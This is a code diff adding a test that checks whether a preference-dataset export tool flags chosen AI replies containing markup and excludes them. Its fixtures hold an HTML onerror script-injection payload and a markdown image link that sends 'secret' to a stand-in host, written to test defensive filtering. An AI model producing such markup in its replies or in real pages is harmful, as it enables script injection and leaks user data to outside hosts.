@@ -6,6 +6,7 @@ import { EmptyExportError } from '$lib/core/export';
 import type { PairStatus, PreferencePair } from '$lib/core/records';
 import type { SpecAlignDb } from '$lib/db/database';
 import { exportDataset, type ExportStatus } from '$lib/worker/export-service';
+import { countChosenMarkup, findPairIds } from '$lib/worker/pairs-service';
 import { buildProjectRows } from '../../helpers/project-rows';
 
 afterEach(closeTestDbs);
@@ -115,5 +116,29 @@ describe('exportDataset', () => {
     await expect(
       exportDataset(db, projectId, trlStandard, { signal: controller.signal }),
     ).rejects.toThrow(AbortedError);
+  });
+});
+
+describe('chosen replies with markup', () => {
+  it('are counted for the summary, found by the Review filter, and left out on request', async () => {
+    const { db, projectId, pairs } = await seeded(4, ['accepted', 'accepted', 'pending']);
+    await db.pairs.update(pairs[1]!.id, { chosen: 'Sure <img src=x onerror="alert(1)">' });
+    await db.pairs.update(pairs[2]!.id, { chosen: '![x](https://t.example/p.png?d=secret)' });
+    expect(await countChosenMarkup(db, projectId, ['accepted'])).toEqual({ flagged: 1, pairs: 3 });
+    expect(await countChosenMarkup(db, projectId, ['accepted', 'pending'])).toEqual({
+      flagged: 2,
+      pairs: 4,
+    });
+    expect(await findPairIds(db, projectId, { markup: true })).toEqual([
+      pairs[1]!.id,
+      pairs[2]!.id,
+    ]);
+
+    const all = await exportDataset(db, projectId, trlStandard);
+    expect(await all.blob.text()).toContain('onerror');
+    const clean = await exportDataset(db, projectId, { ...trlStandard, excludeMarkup: true });
+    const text = await clean.blob.text();
+    expect(text).not.toContain('onerror');
+    expect(text.trim().split('\n')).toHaveLength(2);
   });
 });
